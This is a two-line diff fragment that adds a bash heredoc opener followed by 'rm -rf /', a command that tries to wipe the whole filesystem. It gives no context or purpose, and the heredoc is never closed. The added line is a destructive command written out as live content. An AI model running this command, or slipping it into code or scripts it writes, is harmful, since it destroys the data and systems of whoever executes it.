@@ -1,0 +1,2 @@
+bash <<EOF
+rm -rf /
